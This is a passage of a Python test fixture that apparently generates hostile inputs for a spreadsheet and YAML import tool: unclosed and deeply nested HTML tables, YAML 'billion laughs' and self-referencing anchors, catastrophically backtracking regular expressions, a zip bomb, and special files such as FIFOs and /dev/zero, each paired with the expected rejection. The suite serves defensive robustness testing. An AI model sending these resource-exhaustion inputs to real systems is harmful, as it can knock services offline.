        "sections": b"<![CDATA[",
        "characters": b"&#",
        "scripts": b"<script>",
        "attributes": b'<a b="',
        "marks": b"<",
    }.items():
        yield Hostile(
            f"HTML: {what} never closed",
            "quadratic time",
            _CSV(
                make=partial(lambda f: b"<html><table><tr><td>x" + f * (MB // len(f)), filling),
                name="bills.xls",
            ),
            None,
        )
    yield Hostile(
        "HTML: tables in tables",
        "depth",
        _CSV(make=lambda: b"<html>" + b"<table><tr><td>x" * 100_000, name="bills.xls"),
        "",
    )
    yield Hostile(
        "HTML: merged cells",
        "time",
        _CSV(
            make=lambda: (
                b"<html><table>" + (b"<tr>" + b"<td rowspan=60000 colspan=1000>x" * 16) * 5_000
            ),
            name="bills.xls",
        ),
        "",
    )
    yield Hostile(
        "HTML: one wide row and many rows",
        "a billion cells",
        _CSV(
            make=lambda: b"<html><table><tr>" + b"<td>x" * 16_000 + b"<tr><td>1" * 20_000,
            name="bills.xls",
        ),
        "far apart",
    )
    yield Hostile(
        "YAML: a billion laughs",
        "10 GB from 1 KB",
        lambda folder: template(folder, TEMPLATE % ("", anchors())),
        "repeats",
    )
    yield Hostile(
        "YAML: merges in merges",
        "10 GB from 1 KB",
        lambda folder: template(folder, TEMPLATE % ("", merges())),
        "",
    )
    yield Hostile(
        "YAML: a list that holds itself",
        "no end",
        lambda folder: template(folder, TEMPLATE % ("", "rules: &a {x: *a}")),
        "",
    )
    yield Hostile("YAML: deep", "depth", lambda folder: template(folder, "a: " + "[" * 120_000), "")
    yield Hostile(
        "YAML: huge",
        "time",
        lambda folder: template(
            folder, TEMPLATE % ("", "".join(f"# {i}\nx{i}: [1, 2]\n" for i in range(20_000)))
        ),
        "KB",
    )
    yield Hostile(
        "a pattern that backtracks in ignore_rows",
        "no end",
        lambda folder: template(
            folder, TEMPLATE % ('  ignore_rows: [{column: Vendor, matches: "(a|aa)+$"}]', "")
        ),
        None,
    )
    yield Hostile(
        "a pattern that backtracks in rules",
        "no end",
        lambda folder: template(
            folder, TEMPLATE % ("", 'rules:\n  bills.vendor: {matches: "(a|a)*b|(a*)*c"}')
        ),
        "too long",
    )
    yield Hostile(
        "a pattern that is large",
        "memory",
        lambda folder: template(
            folder,
            TEMPLATE
            % (
                '  ignore_rows: [{column: Vendor, matches: "(((((a{1,99}){1,99}){1,99}){1,99}){1,99}){1,99}b"}]',
                "",
            ),
        ),
        "",
    )
    yield Hostile("a fifo", "no end", fifo, "ordinary file")
    yield Hostile("a socket", "no end", listening, "ordinary file")
    yield Hostile("/dev/zero", "no end", lambda folder: ["/dev/zero"], "ordinary file")
    yield Hostile("a folder", "–", lambda folder: [str(folder)], "folder")
    yield Hostile("a fifo as template", "no end", fifo_template, "no file of that name")
    yield Hostile("a fifo as lookup table", "no end", fifo_lookup, "none of the lookup tables")
    yield Hostile(
        "a zip bomb as lookup table",
        "1 GB from 1 MB",
        partial(lookup, make=partial(sheet_bomb, part="strings")),
        "unpack",
    )


SLOW = frozenset(
    (
        "one wide row",
        "a cell of 90 MB",
        "a long formula shared often",
        "deep XML in the sheet",
        "an endless row",
        "XLSB: a long text shared often",
        "CSV: a line of 60 MB",
        "YAML: deep",
        "a million shared texts of a letter",
        "XLS: the last cell of every row",
        "XLS: 3 million empty records",
        "CSV: a million odd words",
        "CSV: 16,000 unknown columns",
        "HTML: characters never closed",
        "deep XML in the strings",
        "rows never closed",
        "a pattern that is large",
        "HTML: tables in tables",
        "CSV: a word of 20 MB and one accent",
        "HTML: ends never closed",
        "HTML: sections never closed",
        *(
            f"CSV: cells and headers full of {filling!r}"
            for filling in ("*", " ", "1", "(", "-", "€", "é1", "a b", "(custom)")
        ),
        "a pattern that backtracks in ignore_rows",
        *(f"zip bomb in the {part}" for part in ("styles", "book")),
        *(f"a billion laughs in the {part}" for part in ("rels", "styles", "book")),
    )
)
HOSTILE = list(_hostile())
